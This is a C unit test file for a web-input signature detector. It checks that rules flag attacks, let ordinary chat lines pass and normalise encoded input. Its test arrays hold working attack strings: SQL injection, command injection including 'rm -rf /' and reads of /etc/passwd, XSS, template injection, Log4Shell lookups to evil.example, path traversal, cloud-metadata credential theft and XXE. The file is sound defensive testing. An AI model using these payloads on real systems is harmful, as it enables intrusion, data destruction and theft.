/*
 * The shipped rules do what their examples say, refuse whole attacks, and refuse no ordinary talk;
 * the prefilter never leaves out a rule that matches.
 */
#include "validator/signatures/normalise.h"
#include "validator/signatures/signatures.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#define RULES GH_SOURCE_DIR "/deploy/signatures"
#define TALK  GH_SOURCE_DIR "/services/validator/signatures/tests/data/ordinary-chat.txt"

static struct signatures *rules;
static struct signatures_scratch *scratch;

static int load_rules(void **state)
{
    struct signatures_problem problem = { 0 };

    (void)state;
    if (signatures_load(RULES, true, &rules, &problem) != GH_OK) {
        printf("%s:%u: %s: %s\n", problem.file, problem.line, problem.rule, problem.text);
        return -1;
    }
    return signatures_scratch_new(rules, 0, &scratch) == GH_OK ? 0 : -1;
}

static int free_rules(void **state)
{
    (void)state;
    signatures_scratch_free(scratch);
    signatures_free(rules);
    return 0;
}

static uint32_t score(enum signatures_field field, const char *text, size_t len)
{
    signatures_begin(scratch);
    signatures_scan(rules, scratch, field, text, len, 7);
    return signatures_result(scratch)->score;
}

static void has_enough_rules(void **state)
{
    (void)state;
    assert_true(signatures_count(rules) >= 120);
    printf("%u rules\n", signatures_count(rules));
}

static void refuses_attacks(void **state)
{
    static const char *const attacks[] = {
        "' OR 1=1 --",
        "admin'--",
        "1 or 1=1",
        "x' UNION SELECT username, password FROM users--",
        "-1 union all select null,null,@@version",
        "Robert'); DROP TABLE Students;--",
        "1 and (select count(*) from information_schema.tables)>0 or sleep(5)--",
        "%27%20OR%20%271%27%3D%271",
        "' uNiOn/**/sElEcT/**/1,2,3-- -",
        "; cat /etc/passwd",
        "127.0.0.1; rm -rf /",
        "a;cat${IFS}/etc/passwd",
        "() { :; }; /bin/bash -c 'id'",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "<svg/onload=alert`1`>",
        "\"><script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%253Cscript%253Ealert(1)%253C/script%253E",
        "\\u003cimg src=x onerror=\\u0061lert(1)\\u003e",
        "javascript:alert(document.domain)",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "{{7*7}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
        "$%7Bjndi:ldap://evil.example/a%7D",
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "..%c0%af..%c0%afetc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "*)(uid=*))(|(uid=*",
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
        "<!--#exec cmd=\"id\" -->",
        "!!python/object/apply:os.system ['id']",
    };

    (void)state;
    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        uint32_t got = score(SIGNATURES_TEXT, attacks[i], strlen(attacks[i]));

        if (got < SIGNATURES_DEFAULT_THRESHOLD) fail_msg("score %u: %s", got, attacks[i]);
    }
}

static int by_text(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

static void lets_ordinary_talk_pass(void **state)
{
    enum { LINES_MAX = 10000 };
    char line[8192], **all = calloc(LINES_MAX, sizeof *all);
    unsigned lines = 0, distinct = 0, refused = 0;
    FILE *file = fopen(TALK, "re");

    (void)state;
    assert_non_null(file);
    assert_non_null(all);
    while (fgets(line, sizeof(line), file) != NULL) {
        size_t len = strcspn(line, "\n");
        uint32_t got = score(SIGNATURES_TEXT, line, len);

        assert_true(lines < LINES_MAX);
        all[lines] = strndup(line, len);
        assert_non_null(all[lines]);
        lines++;
        if (got < SIGNATURES_DEFAULT_THRESHOLD) continue;
        refused++;
        printf("line %u, score %u: %.*s\n", lines, got, (int)len, line);
    }
    (void)fclose(file);
    qsort(all, lines, sizeof *all, by_text);
    for (unsigned i = 0; i < lines; i++)
        distinct += i == 0 || strcmp(all[i], all[i - 1]) != 0;
    for (unsigned i = 0; i < lines; i++)
        free(all[i]);
    free(all);
    printf("%u lines of ordinary talk, %u distinct, %u refused\n", lines, distinct, refused);
    assert_true(distinct >= 2000);
    assert_int_equal(distinct, lines);
    assert_int_equal(refused, 0);
}

static void keeps_to_fields(void **state)
{
    (void)state;
    assert_true(score(SIGNATURES_KEY, "$ne", 3) >= 10);
    assert_int_equal(score(SIGNATURES_TEXT, "$ne", 3), 0);
    assert_true(score(SIGNATURES_NAME, "../x.png", 8) >= 8);
    assert_int_equal(score(SIGNATURES_TEXT, "../x.png", 8), 0);
}

static void counts_a_rule_once_a_message(void **state)
{
    static const char text[] = "{{7*7}}";
    const struct signatures_result *result;
    uint32_t one = score(SIGNATURES_TEXT, text, sizeof(text) - 1);

    (void)state;
    signatures_scan(rules, scratch, SIGNATURES_TEXT, text, sizeof(text) - 1, 9);
    result = signatures_result(scratch);
    assert_int_equal(result->score, one);
    assert_int_equal(result->hits[0].tag, 7);
    signatures_begin(scratch);
    assert_int_equal(signatures_result(scratch)->score, 0);
}

static void stops_at_the_cap(void **state)
{
    char text[4096] = "";
    static const char *const parts[] = {
        "' or 1=1-- ",
        "union select 1,2,3 ",
        "; cat /etc/passwd ",
        "<script>alert(1)</script> ",
        "${jndi:x} ",
        "../../../etc/passwd ",
        "<img src=x onerror=alert(1)> ",
        "{{7*7}} ",
        "php://filter/convert ",
        "gopher://x/_a ",
        "<!ENTITY a SYSTEM 'b'> ",
        "a:alert(1) ",
        "waitfor delay '1' ",
        "into outfile 'x' ",
        "load_file('/x') ",
        "javascript:alert(1) ",
        "data:text/html,<script> ",
        "eval(atob('x')) ",
        "vbscript:msgbox ",
        "_$$ND_FUNC$$_ ",
    };

    (void)state;
    for (size_t i = 0; i < sizeof(parts) / sizeof(parts[0]); i++)
        strcat(text, parts[i]);
    score(SIGNATURES_TEXT, text, strlen(text));
    assert_int_equal(signatures_result(scratch)->n_hits, SIGNATURES_MAX_HITS);
}

static const struct normal_row {
    const char *text, *normal;
} normal_rows[] = {
    { "%3Cscript%3E", "<script>" },
    { "%253Cb%253E", "<b>" },
    { "a%u0041b", "aab" },
    { "&lt;B&gt;", "<b>" },
    { "&#60;&#x62;&#x3e", "<b>" },
    { "\\u003cb\\x3e", "<b>" },
    { "un/* x */ion", "un ion" },
    { "/*!50000select*/ 1", "select 1" },
    { "a<!-- b -->c", "a c" },
    { "a\t \r\n b", "a b" },
    { "java\x01script", "javascript" },
    { "\xEF\xBC\x9Cscript\xEF\xBC\x9E", "<script>" },
    { "a%20b+c", "a b c" },
    { "1+1", "1+1" },
    { "100% sure & so on", "100% sure & so on" },
    { "/* never closed", "/* never closed" },
};

static void normalises(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(normal_rows) / sizeof(normal_rows[0]); i++) {
        const struct normal_row *row = &normal_rows[i];
        char dst[128], spare[128];
        size_t len = normalise(row->text, strlen(row->text), dst, spare);

        if (len != strlen(row->normal) || memcmp(dst, row->normal, len) != 0)
            fail_msg("\"%s\" became \"%.*s\"", row->text, (int)len, dst);
    }
    assert_false(normalise_is_needed("plain talk, 100% of it & more", 29));
    assert_true(normalise_is_needed("a long enough text before %3C", 29));
}

static const struct bad_row {
    const char *yaml, *text;
} bad_rows[] = {
    { "family: x\nrules: [{id: a}]\n", "missing" },
    { "family: x\nrules:\n  - {id: A}\n", "small letters" },
    { "rules: []\n", "family is missing" },
    { "family: x\nextra: 1\nrules: []\n", "unknown key" },
    { "family: x\nrules:\n  - {id: a, description: d, pattern: '(?=a)bcd', score: 1, examples: "
      "{match: [bcd], no_match: [x]}}\n",
      "not supported" },
    { "family: x\nrules:\n  - {id: a, description: d, pattern: abcd, score: 101, examples: {match: "
      "[abcd], no_match: [x]}}\n",
      "1 to 100" },
    { "family: x\nrules:\n  - {id: a, description: d, pattern: abcd, score: 1, examples: {match: "
      "[abc], no_match: [x]}}\n",
      "does not match" },
    { "family: x\nrules:\n  - {id: a, description: d, pattern: abcd, score: 1, examples: {match: "
      "[abcd], no_match: [xabcd]}}\n",
      "must not" },
    { "family: x\nrules:\n  - {id: a, description: d, pattern: '\\w+', score: 1, examples: {match: "
      "[abcd], no_match: ['-']}}\n",
      "every match must hold" },
    { "family: [\n", "" },
};

static void refuses_bad_rules(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(bad_rows) / sizeof(bad_rows[0]); i++) {
        struct signatures_text text = { "test", bad_rows[i].yaml, strlen(bad_rows[i].yaml) };
        struct signatures_problem problem = { 0 };
        struct signatures *loaded = NULL;

        assert_int_equal(signatures_load_texts(&text, 1, true, &loaded, &problem), GH_ERR_CONFIG);
        if (strstr(problem.text, bad_rows[i].text) == NULL)
            fail_msg("row %zu: \"%s\"", i, problem.text);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(has_enough_rules),
        cmocka_unit_test(refuses_attacks),
        cmocka_unit_test(lets_ordinary_talk_pass),
        cmocka_unit_test(keeps_to_fields),
        cmocka_unit_test(counts_a_rule_once_a_message),
        cmocka_unit_test(stops_at_the_cap),
        cmocka_unit_test(normalises),
        cmocka_unit_test(refuses_bad_rules),
    };

    return cmocka_run_group_tests_name("signatures", tests, load_rules, free_rules);
}
